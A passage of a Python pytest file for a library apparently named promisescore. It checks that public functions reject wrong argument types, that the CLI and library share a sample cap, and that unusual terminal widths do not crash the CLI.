            lambda: API.sensitivity(promisescore.loads(BASE), weight_spread="x"),
            TypeError,
            "weight_spread",
        ),
        (lambda: API.timeline(promisescore.loads(BASE), until=5), TypeError, "until"),
        (lambda: API.timeline(promisescore.loads(BASE), at=[5]), TypeError, "at"),
        (lambda: API.timeline(promisescore.loads(BASE), assessor=5), TypeError, "assessor"),
        (lambda: API.verify(promisescore.loads(BASE), archive_root=5), TypeError, "archive_root"),
        (lambda: API.verify(None), TypeError, "rubric"),
        (lambda: API.dump(promisescore.loads(BASE), 123), TypeError, "path"),
        (lambda: API.RenderOptions(width="x"), TypeError, "width"),
        (lambda: API.RenderOptions(sort="size"), ValueError, "sort"),
        (lambda: API.RenderOptions(categories="c1"), TypeError, "categories"),
        (
            lambda: importlib.import_module("promisescore.site").render_site(
                promisescore.loads(BASE), 123
            ),
            TypeError,
            "options",
        ),
        (
            lambda: importlib.import_module("promisescore.site").render_site(123),
            TypeError,
            "rubrics",
        ),
    ],
)
def test_public_functions_check_their_arguments(
    call: Callable[[], object], error: type[Exception], names: str
) -> None:

    with pytest.raises(error, match=rf"\b{names}\b"):
        call()


def test_library_and_cli_cap_samples_alike() -> None:
    from promisescore.analysis.sensitivities import MAX_SAMPLES
    from promisescore.cli.analysis import sensitivity

    option = next(p for p in sensitivity.params if p.name == "samples")
    assert isinstance(option.type, __import__("click").IntRange)
    assert option.type.max == MAX_SAMPLES


@pytest.mark.parametrize("columns", ["200000", "99999999999999999999", "\u00b2", "12abc"])
def test_any_columns_or_width_lays_out_without_a_traceback(
    columns: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _rubric(tmp_path, BASE)
    monkeypatch.setenv("COLUMNS", columns)
    for args in (["score", str(path)], ["timeline", str(path)], ["report", str(path)]):
        result = _invoke(args)
        assert result.exit_code == 0, (args, result.output)
    wide = _invoke(["report", str(path), "--width", "100001"])
    assert wide.exit_code == 0, wide.output
